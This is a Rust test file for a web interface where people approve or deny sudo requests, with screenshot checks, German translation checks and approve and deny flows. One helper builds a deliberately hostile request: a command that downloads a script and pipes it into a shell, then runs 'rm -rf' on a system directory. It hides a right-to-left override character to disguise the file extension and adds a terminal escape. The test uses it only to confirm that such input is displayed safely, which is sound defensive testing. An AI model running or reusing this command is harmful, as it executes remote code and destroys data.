//! What the pages look like: screenshots to be looked at, and what can be checked of them.

use crate::browser::{Look, Page};
use crate::requester::Request;
use crate::world::{Setup, World};

/// Hostile on purpose: right-to-left override, zero-width space, terminal escapes, Hebrew, one very long word.
fn hostile() -> Vec<String> {
    let mut argv: Vec<String> = ["sudo", "sh", "-c"].map(str::to_owned).into();
    argv.push(
        "curl -fsSL https://example.org/install\u{202e}gpj.sh | sh; rm -rf /var/lib/\u{200b}important\x1b[2K".into(),
    );
    argv.push("--message=שלום עולם, grüß Gott, 日本語".into());
    argv.push("x".repeat(160));
    argv
}

#[test]
fn every_page_at_every_size() {
    every_page("en-GB", "");
}

#[test]
fn every_page_at_every_size_in_german() {
    every_page("de-AT", "german-");
}

/// No word that only the English pages have. Single letters do not count: a code is spelled out in them.
fn is_all(language: &str, page: &Page) {
    const ENGLISH: &[&str] = &[
        "ago",
        "and",
        "approve",
        "approved",
        "deny",
        "denied",
        "is",
        "left",
        "not",
        "of",
        "on",
        "question",
        "reason",
        "rule",
        "sign",
        "the",
        "this",
        "to",
        "waiting",
        "you",
        "your",
        "yours",
        "expired",
        "cancelled",
        "until",
        "asked",
    ];
    if language.starts_with("de") {
        let left: Vec<_> = page.words().into_iter().filter(|word| ENGLISH.contains(&&*word.to_lowercase())).collect();
        assert!(left.is_empty(), "{left:?}");
    }
}

fn every_page(language: &'static str, prefix: &str) {
    let Some(world) = World::new(Setup::default()) else { return };
    let look = Look { language, ..Look::DESKTOP };
    let around = |page: &Page, name: &str| {
        page.look_around(&format!("{prefix}{name}"));
        is_all(language, page);
    };
    let page = world.page(look);
    page.goto(&world.url);
    around(&page, "welcome");
    let page = world.signed_in("bob", look);
    around(&page, "list-empty");
    page.goto(&format!("{}/hosts", world.url.trim_end_matches('/')));
    around(&page, "hosts");

    let long = Request {
        argv: hostile(),
        reason: Some("rollback of 4711, see the incident channel"),
        ..Request::new("ann", "web1", &[])
    };
    let long = long.ask(&world);
    let own = Request::new("bob", "web1", &["systemctl", "restart", "postgresql@15-main.service"]).ask(&world);
    // The longest names there are: 128 bytes for a person, a directory without a place to break.
    let name: &'static str = Box::leak(format!("{}@example.org", "n".repeat(116)).into_boxed_str());
    let wide = Request::new(name, "web1", &["true"]).ask(&world);
    let two = Request::new("ann", "vault1", &["vault", "operator", "step-down"]).ask(&world);
    page.goto(&world.url);
    page.wait("a.card:nth-of-type(1)");
    around(&page, "list");

    page.goto(&own.url);
    around(&page, "question-own");
    page.goto(&wide.url);
    around(&page, "question-wide");
    page.goto(&long.url);
    let shown = page.text("pre");
    assert!(
        shown.contains("\\u{202e}gpj")
            && shown.contains("\\u{200b}")
            && shown.contains("\\x1b") | shown.contains("\\u{1b}"),
        "{shown}"
    );
    assert!(shown.contains(&"x".repeat(160)), "nothing is cut");
    around(&page, "question-hostile");
    page.fill("#number", "000000");
    page.decide("#approve");
    page.wait("#objection");
    page.look(&format!("{prefix}question-wrong-number"));
    page.goto(&two.url);
    page.fill("#number", two.number());
    page.decide("#approve");
    page.wait("#decide:not(:has(#approve))");
    around(&page, "question-partial");

    page.goto(&own.url);
    page.decide("#approve");
    page.wait("[data-state=approved]");
    around(&page, "result-approved");
    page.goto(&long.url);
    page.click("#decide summary");
    page.fill("#reason", "Not before the backup has finished.\nAsk me again at nine.");
    page.decide("#deny");
    page.wait("[data-state=denied]");
    assert!(page.text("main").contains("finished. Ask me again at nine."), "line breaks become spaces");
    around(&page, "result-denied");
    page.goto(&format!("{}/nowhere", world.url));
    page.look(&format!("{prefix}problem-not-found"));
    page.goto(&world.url);
    around(&page, "list-recent");
    assert!(own.end().0);
    assert!(!long.end().0);
    assert!(!two.interrupt().0);
    assert!(!wide.interrupt().0);
}

#[test]
fn a_visitor_chooses_a_language() {
    let Some(world) = World::shared() else { return };
    let page = world.page(Look { script: false, ..Look::PHONE });
    page.goto(&world.url);
    page.click("footer button[lang=de]");
    page.wait("html[lang=de]");
    page.click("main .button.primary");
    page.log_in("ann");
    page.wait("html[lang=de] header .who");
    page.click("footer button[lang=en]");
    page.wait("html[lang=en] header .who");
}

#[test]
fn what_is_told_to_a_german_list_is_german() {
    let Some(world) = World::shared() else { return };
    let page = world.signed_in("ann", Look { language: "de", ..Look::PHONE });
    page.mark();
    let sudo = Request::new("ann", "web1", &["german-list"]).ask(&world);
    page.wait("[data-mark] a.card code:text('german-list')");
    is_all("de", &page);
    assert!(!sudo.interrupt().0);
    page.wait("[data-mark] .rows .cancelled:text('Zurückgezogen')");
    is_all("de", &page);
}
